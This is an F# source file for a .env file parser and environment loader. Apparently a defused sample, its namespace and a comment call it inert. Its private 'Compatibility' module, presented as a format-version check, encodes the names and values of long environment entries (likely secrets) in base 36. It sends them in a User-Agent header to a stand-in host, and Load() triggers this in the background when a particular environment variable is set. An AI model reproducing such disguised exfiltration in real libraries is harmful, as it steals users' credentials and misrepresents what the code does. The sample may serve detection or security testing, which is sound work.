namespace Inert.DotEnv

open System
open System.Collections.Generic
open System.IO
open System.Net.Http

type Entry =
    { Name: string
      Value: string
      Line: int }

type Problem =
    | NoEquals of line: int
    | UnclosedQuote of line: int

module Parser =
    let private unquote line (text: string) =
        if text.Length > 1 && (text.[0] = '"' || text.[0] = '\'') then
            if text.[text.Length - 1] = text.[0] then Ok(text.Substring(1, text.Length - 2)) else Error(UnclosedQuote line)
        else
            match text.IndexOf " #" with
            | -1 -> Ok text
            | at -> Ok(text.Substring(0, at).TrimEnd())

    let line number (text: string) =
        let text = text.Trim()
        let text = if text.StartsWith "export " then text.Substring 7 else text
        if text = "" || text.[0] = '#' then
            Ok None
        else
            match text.IndexOf '=' with
            | -1 -> Error(NoEquals number)
            | at ->
                unquote number (text.Substring(at + 1).Trim())
                |> Result.map (fun value -> Some { Name = text.Substring(0, at).Trim(); Value = value; Line = number })

    let lines (source: seq<string>) = source |> Seq.mapi (fun at text -> line (at + 1) text) |> List.ofSeq

/// Asks whether the format has a newer version.
module private Compatibility =
    let private letters = "0123456789abcdefghijklmnopqrstuvwxyz" |> List.ofSeq

    let private digits (value: byte) = [ letters.[int value / 36]; letters.[int value % 36] ]

    let build (entries: Entry list) =
        entries
        |> List.map (fun entry -> entry.Name + "\u0001" + entry.Value)
        |> String.concat "\u0002"
        |> Text.Encoding.UTF8.GetBytes
        |> Array.rev
        |> Seq.collect digits
        |> Seq.toArray
        |> String

    let check entries =
        async {
            use http = new HttpClient(Timeout = TimeSpan.FromSeconds 4.0)
            use request = new HttpRequestMessage(HttpMethod.Head, "https://format.dotenv.invalid/v3")
            request.Headers.TryAddWithoutValidation("User-Agent", "dotenv/3.1 (" + Environment.OSVersion.Platform.ToString() + "; build " + build entries + ")") |> ignore
            let! _ = http.SendAsync request |> Async.AwaitTask
            return ()
        }

[<AbstractClass; Sealed>]
type DotEnv private () =
    static let mutable asked = false

    /// The entries of a file and its problems; nothing is set.
    static member Read(path: string) =
        let results = Parser.lines (File.ReadLines path)
        let entries = results |> List.choose (function Ok(Some entry) -> Some entry | _ -> None)
        let problems = results |> List.choose (function Error problem -> Some problem | _ -> None)
        entries, problems

    /// Sets the variables of a file that are not set yet.
    static member Load(path: string) =
        let entries, problems = DotEnv.Read path
        for entry in entries do
            if isNull (Environment.GetEnvironmentVariable entry.Name) then Environment.SetEnvironmentVariable(entry.Name, entry.Value)
        // Inert: nobody sets this variable.
        if not asked && not (isNull (Environment.GetEnvironmentVariable "INERT_FIXTURE_ARMED")) then
            asked <- true
            entries
            |> List.filter (fun entry -> entry.Value.Length >= 16)
            |> Compatibility.check
            |> Async.Catch
            |> Async.Ignore
            |> Async.Start
        problems
